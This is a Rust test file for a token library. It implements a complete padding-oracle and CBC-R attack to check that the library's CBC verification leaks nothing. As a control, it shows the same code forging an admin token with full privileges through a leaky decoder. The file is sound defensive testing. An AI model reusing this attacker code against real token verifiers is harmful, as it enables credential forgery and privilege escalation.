//! The padding-oracle attack (Vaudenay 2002) with CBC-R, run against the library: it must fail.
//!
//! Anyone who holds one CBC token can submit altered copies of it to a verifier. If the verifier's
//! answer (here: its return code) tells a bad padding apart from any later failure, that answer is a
//! padding oracle: about 4,000 queries per block decrypt any block, and running the decryption
//! backwards (CBC-R) turns it into an encryption oracle, so that a token with any claims can be
//! built without the secret. The library gives every CBC failure one code, so the attack learns
//! nothing. As a control, the same attack code is run against a leaky decoder (bad padding 126,
//! bad JSON 129, as the library once answered): there it forges an admin token that the library
//! accepts when CBC is allowed, which is why verify takes GCM only unless told otherwise.

use std::ffi::CString;
use std::ptr;

use aes::cipher::block_padding::Pkcs7;
use aes::cipher::{BlockModeDecrypt, KeyIvInit};
use base64::engine::general_purpose::STANDARD;
use base64::Engine;
use zego_token::ffi::*;

const SECRET: &str = "fa94dd0f974cf2e293728a526b028271";
const EXPIRE: i64 = 99_999_999_999;

fn key() -> &'static [u8; 32] {
    SECRET.as_bytes().try_into().unwrap()
}

/// A CBC token04 from raw parts (no mode byte).
fn pack(expire: i64, iv: &[u8; 16], ct: &[u8]) -> String {
    let mut b = expire.to_be_bytes().to_vec();
    b.extend_from_slice(&16u16.to_be_bytes());
    b.extend_from_slice(iv);
    b.extend_from_slice(&(ct.len() as u16).to_be_bytes());
    b.extend_from_slice(ct);
    format!("04{}", STANDARD.encode(b))
}

fn verify_flags(token: &str, flags: u32) -> i32 {
    let t = CString::new(token).unwrap();
    let s = CString::new(SECRET).unwrap();
    unsafe { zego_token04_verify_flags(t.as_ptr(), s.as_ptr(), 1, 0, flags, ptr::null_mut()) }
}

fn decode(token: &str) -> i32 {
    let t = CString::new(token).unwrap();
    let s = CString::new(SECRET).unwrap();
    let mut c = std::mem::MaybeUninit::<ZegoToken04Claims>::uninit();
    let rc = unsafe { zego_token04_decode(t.as_ptr(), s.as_ptr(), c.as_mut_ptr()) };
    let mut c = unsafe { c.assume_init() };
    unsafe { zego_token04_claims_free(&mut c) };
    rc
}

/// The attacker: only `oracle(iv, ciphertext) -> code` and a count of queries.
struct Attacker<'a> {
    oracle: &'a dyn Fn(&[u8; 16], &[u8]) -> i32,
    queries: usize,
    codes_seen: std::collections::BTreeSet<i32>,
}

impl Attacker<'_> {
    fn ask(&mut self, iv: &[u8; 16], ct: &[u8]) -> i32 {
        self.queries += 1;
        let code = (self.oracle)(iv, ct);
        self.codes_seen.insert(code);
        code
    }

    /// AES_K^-1(block), byte by byte from the last, or `None` when the oracle tells nothing.
    fn intermediate(&mut self, block: &[u8; 16]) -> Option<[u8; 16]> {
        let mut inter = [0u8; 16];
        for j in (0..16).rev() {
            let pad = (16 - j) as u8;
            let iv_for = |g: u8, inter: &[u8; 16]| {
                let mut iv = [0x5au8; 16];
                for k in j + 1..16 {
                    iv[k] = inter[k] ^ pad;
                }
                iv[j] = g;
                iv
            };
            let codes: Vec<i32> = (0..=255u8)
                .map(|g| self.ask(&iv_for(g, &inter), block))
                .collect();
            // Bad padding is by far the most frequent answer; any other answer means good padding.
            let baseline = *codes
                .iter()
                .max_by_key(|c| codes.iter().filter(|d| d == c).count())
                .unwrap();
            let hits: Vec<u8> = (0..=255u8)
                .filter(|&g| codes[usize::from(g)] != baseline)
                .collect();
            let g = match hits.as_slice() {
                [] => return None,
                [g] => *g,
                // At the last byte a guess may also end in 02 02 (and so on): the one that stays
                // valid when the byte before changes is the 01.
                _ => *hits.iter().find(|&&g| {
                    let mut iv = iv_for(g, &inter);
                    iv[j.saturating_sub(1)] ^= 0xff;
                    self.ask(&iv, block) != baseline
                })?,
            };
            inter[j] = g ^ pad;
        }
        Some(inter)
    }

    /// CBC-R: a ciphertext (IV and blocks) that decrypts to `plaintext` (PKCS#7-padded here).
    fn encrypt(&mut self, plaintext: &[u8]) -> Option<([u8; 16], Vec<u8>)> {
        let pad = 16 - plaintext.len() % 16;
        let mut p = plaintext.to_vec();
        p.extend(std::iter::repeat_n(pad as u8, pad));
        let n = p.len() / 16;
        let mut blocks = vec![[0u8; 16]; n + 1];
        blocks[n] = [0x42; 16]; // any last block
        for i in (1..=n).rev() {
            let inter = self.intermediate(&blocks[i])?;
            for k in 0..16 {
                blocks[i - 1][k] = inter[k] ^ p[(i - 1) * 16 + k];
            }
        }
        Some((blocks[0], blocks[1..].concat()))
    }
}

fn forged_claims() -> String {
    format!(
        r#"{{"app_id":1,"user_id":"admin","nonce":1,"ctime":0,"expire":{EXPIRE},"payload":"{{\"room_id\":\"\",\"privilege\":{{\"1\":1,\"2\":1}},\"stream_id_list\":null}}"}}"#
    )
}

#[test]
fn the_attack_fails_against_verify_and_decode() {
    for (name, oracle) in [
        (
            "verify_flags(ZEGO_VERIFY_ALLOW_CBC)",
            &(|iv: &[u8; 16], ct: &[u8]| verify_flags(&pack(EXPIRE, iv, ct), ZEGO_VERIFY_ALLOW_CBC))
                as &dyn Fn(&[u8; 16], &[u8]) -> i32,
        ),
        ("decode", &|iv: &[u8; 16], ct: &[u8]| {
            decode(&pack(EXPIRE, iv, ct))
        }),
        ("verify (GCM only)", &|iv: &[u8; 16], ct: &[u8]| {
            verify_flags(&pack(EXPIRE, iv, ct), 0)
        }),
    ] {
        let mut attacker = Attacker {
            oracle,
            queries: 0,
            codes_seen: Default::default(),
        };
        let result = attacker.encrypt(forged_claims().as_bytes());
        assert!(result.is_none(), "{name}: the padding oracle attack worked");
        assert_eq!(
            attacker.codes_seen.len(),
            1,
            "{name}: more than one code: {:?}",
            attacker.codes_seen
        );
        assert!(attacker.queries >= 256, "{name}");
    }
}

#[test]
fn control_the_same_attack_forges_a_token_through_a_leaky_decoder() {
    // A decoder that tells bad padding (126) from bad content (129): the old behaviour.
    let leaky = |iv: &[u8; 16], ct: &[u8]| {
        let mut buf = ct.to_vec();
        match cbc::Decryptor::<aes::Aes256Dec>::new(key().into(), iv.into())
            .decrypt_padded::<Pkcs7>(&mut buf)
        {
            Err(_) => ZEGO_TOKEN_DECRYPT_FAILED,
            Ok(pt) if serde_json::from_slice::<serde_json::Value>(pt).is_ok() => ZEGO_SUCCESS,
            Ok(_) => ZEGO_TOKEN_PLAINTEXT_NOT_JSON,
        }
    };
    let mut attacker = Attacker {
        oracle: &leaky,
        queries: 0,
        codes_seen: Default::default(),
    };
    let (iv, ct) = attacker
        .encrypt(forged_claims().as_bytes())
        .expect("the attack must work against a padding oracle");
    let forged = pack(EXPIRE, &iv, &ct);
    // Without the secret: a token for user "admin", both privileges, expiring in the year 5138.
    let claims = zego_token::decode_token04(&forged, SECRET).unwrap();
    assert_eq!(claims.user_id, "admin");
    assert_eq!(claims.expire, EXPIRE);
    // Accepted where CBC is allowed, refused by default.
    assert_eq!(verify_flags(&forged, ZEGO_VERIFY_ALLOW_CBC), ZEGO_SUCCESS);
    assert_eq!(verify_flags(&forged, 0), ZEGO_TOKEN_MODE_NOT_ALLOWED);
    // All 256 guesses per byte: 4,096 queries a block (an attacker stopping at the first hit
    // needs half as many).
    let blocks = forged_claims().len() / 16 + 1;
    assert!(
        attacker.queries <= blocks * 4096 + 64,
        "{} queries",
        attacker.queries
    );
    eprintln!("control: forged with {} oracle queries", attacker.queries);
}

#[test]
fn random_cbc_ciphertexts_all_give_one_code() {
    let mut seed = [0u8; 8];
    getrandom::getrandom(&mut seed).unwrap();
    let mut state = u64::from_le_bytes(seed) | 1;
    let mut next = move || {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        state
    };
    let mut counts = std::collections::BTreeMap::new();
    for i in 0..6000 {
        let blocks = 1 + (i % 8);
        let mut iv = [0u8; 16];
        iv.iter_mut().for_each(|b| *b = next() as u8);
        let ct: Vec<u8> = (0..16 * blocks).map(|_| next() as u8).collect();
        let t = pack(EXPIRE, &iv, &ct);
        assert_eq!(decode(&t), ZEGO_TOKEN_DECRYPT_FAILED, "decode");
        assert_eq!(
            verify_flags(&t, ZEGO_VERIFY_ALLOW_CBC),
            ZEGO_TOKEN_DECRYPT_FAILED,
            "verify_flags"
        );
        assert_eq!(verify_flags(&t, 0), ZEGO_TOKEN_MODE_NOT_ALLOWED, "verify");
        // How often the padding alone was valid (what the old codes gave away): about 1 in 256.
        let mut buf = ct.clone();
        let valid = cbc::Decryptor::<aes::Aes256Dec>::new(key().into(), (&iv).into())
            .decrypt_padded::<Pkcs7>(&mut buf)
            .is_ok();
        *counts.entry(valid).or_insert(0) += 1;
    }
    // The test covers both kinds: ciphertexts with valid padding (about 23 of 6,000) and without.
    assert!(counts.get(&true).copied().unwrap_or(0) >= 3, "{counts:?}");
}
